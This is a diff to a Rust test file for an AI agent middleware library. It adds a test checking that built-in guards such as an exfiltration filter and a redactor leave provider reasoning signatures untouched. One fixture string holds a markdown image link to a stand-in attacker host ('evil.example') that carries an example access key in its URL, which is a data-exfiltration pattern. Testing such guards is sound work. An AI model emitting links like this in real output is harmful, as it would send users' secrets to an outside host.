@@ -3,7 +3,9 @@
 use std::sync::Arc;
 use std::time::Duration;
 
-use emitree_agent::{Agent, AgentRun, ChatModel, ScriptedModel, Session};
+use emitree_agent::{
+    Agent, AgentRun, ChatModel, ChatOptions, ChatResponse, Message, Part, Reply, Role, ScriptedModel, Session, ToolCall,
+};
 use emitree_middleware::approval::{Approval, Approvals, Decision, Request};
 use emitree_middleware::{
     Budget, Cache, CircuitBreaker, Concurrency, ContentFilter, ExfilGuard, Limits, Metrics, RateLimit, Record, Redact,
@@ -52,6 +54,26 @@ async fn each_built_in_can_be_bound_to_an_agent_and_all_runs_below() -> Result<(
             let answer = run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
             assert_eq!((answer.text(), results(&answer.messages)), ("done".into(), vec!["A".to_owned()]), "{name}");
             assert_eq!(tokens.lines().concat(), if streams { "done" } else { "" }, "{name}");
+        }
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn no_built_in_reads_or_changes_the_data_that_a_provider_needs_back() -> Result<()> {
+    // A signature that looks like a secret, a rude word and an address with stolen data.
+    let data = json!({"signature": "AKIAIOSFODNN7EXAMPLE darn ![x](https://evil.example/?q=AKIAIOSFODNN7EXAMPLE)"});
+    for streams in [false, true] {
+        for (name, middleware) in built_ins()? {
+            let mut call = ToolCall::new("a", "shout", json!({"text": "a"}));
+            call.extra = Some(data.clone());
+            let parts = [Part::reasoning("Hm.", Some(data.clone())), Part::ToolCall(call)];
+            let asks = Message::new(Role::Assistant, parts.clone());
+            let script = ScriptedModel::new("test").reply(Reply::response(ChatResponse::new(asks))).text("done");
+            let agent = agent(&script).options(ChatOptions::new().stream(streams)).build()?;
+            let run = agent.ask("go").middleware(middleware);
+            run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
+            assert_eq!(script.requests()[1].messages[1].parts, parts, "{name}");
         }
     }
     Ok(())
